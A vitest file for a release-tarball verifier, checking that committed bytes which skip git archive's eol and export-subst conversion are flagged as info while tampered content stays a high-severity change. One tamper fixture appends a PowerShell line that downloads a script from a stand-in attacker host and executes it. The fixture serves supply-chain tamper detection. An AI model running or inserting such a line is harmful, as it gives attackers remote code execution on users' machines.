/**
 * A tracked file under an archive attribute (eol=crlf, export-subst) shipped as the committed blob itself:
 * git archive would convert it, a release made from a checkout or the blobs (make dist) does not. End to end with
 * real git and GNU tar: the committed bytes are ATTRIBUTE_NOT_APPLIED (info, explained); git archive's own
 * export is identical; any other content stays a change (opus-tools 0.2's win32/*.bat under `text eol=crlf`).
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

describe('committed bytes shipped where git archive converts (ATTRIBUTE_NOT_APPLIED)', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  const committed = {
    '.gitattributes': '*.bat text eol=crlf\nversion.txt export-subst\n',
    'README': 'proj\n',
    'win32/genversion.bat': '@echo off\nsetlocal\necho #define VERSION "1.0" > version.h\n',
    'version.txt': 'commit $Format:%H$\n',
    'src/main.c': 'int main(void) { return 0; }\n',
  };
  repo.commit(committed);
  repo.tag('v1.0');
  const cache = join(root, 'cache');
  const shipped = (over: Record<string, string>) => {
    const files: Record<string, string> = { ...committed, ...over };
    delete files['.gitattributes'];
    return files;
  };
  function tarball(name: string, files: Record<string, string>): string {
    const dir = join(root, name, 'proj-1.0');
    writeFiles(dir, files);
    return makeTar(dir, { compress: 'gzip', out: join(root, name, 'proj-1.0.tar.gz') });
  }
  const at = (r: Awaited<ReturnType<typeof verify>>, path: string) => r.findings.find((f) => f.path === path);

  it('the committed LF .bat and the unexpanded $Format$ file are ATTRIBUTE_NOT_APPLIED (info), exit-0 verdict', async () => {
    const r = await verify({ tarball: tarball('raw', shipped({})), repo: repo.dir, cacheDir: cache });
    const blob = (p: string) => execFileSync('git', ['-C', repo.dir, 'rev-parse', `v1.0:${p}`], { encoding: 'utf8' }).trim();
    expect(at(r, 'win32/genversion.bat')).toMatchObject({ code: 'ATTRIBUTE_NOT_APPLIED', severity: 'info', evidence: { attribute: 'eol', blob: blob('win32/genversion.bat') } });
    expect(at(r, 'version.txt')).toMatchObject({ code: 'ATTRIBUTE_NOT_APPLIED', severity: 'info', evidence: { attribute: 'export-subst', blob: blob('version.txt') } });
    expect(r.verdict).not.toBe('different');
  });

  it("git archive's own export (CRLF, the placeholder expanded) is identical: no finding at either path", async () => {
    const out = join(root, 'archived');
    mkdirSync(out, { recursive: true });
    const t = join(out, 'proj-1.0.tar');
    execFileSync('git', ['-C', repo.dir, 'archive', '--prefix=proj-1.0/', '-o', t, 'v1.0']);
    const r = await verify({ tarball: t, repo: repo.dir, cacheDir: cache });
    expect(at(r, 'win32/genversion.bat')).toBeUndefined();
    expect(at(r, 'version.txt')).toBeUndefined();
  });

  it('tampered: a line added to the LF .bat, or another placeholder text, stays a high or critical change', async () => {
    const bat = committed['win32/genversion.bat'] + 'powershell -c "iwr http://evil.example/x.ps1 | iex"\n';
    const r = await verify({ tarball: tarball('tampered', shipped({ 'win32/genversion.bat': bat, 'version.txt': 'commit $Format:%h$\n' })), repo: repo.dir, cacheDir: cache });
    expect(['high', 'critical']).toContain(at(r, 'win32/genversion.bat')?.severity);
    expect(at(r, 'win32/genversion.bat')?.code).not.toBe('ATTRIBUTE_NOT_APPLIED');
    expect(['high', 'critical']).toContain(at(r, 'version.txt')?.severity);
    expect(r.verdict).toBe('different');
  });
});
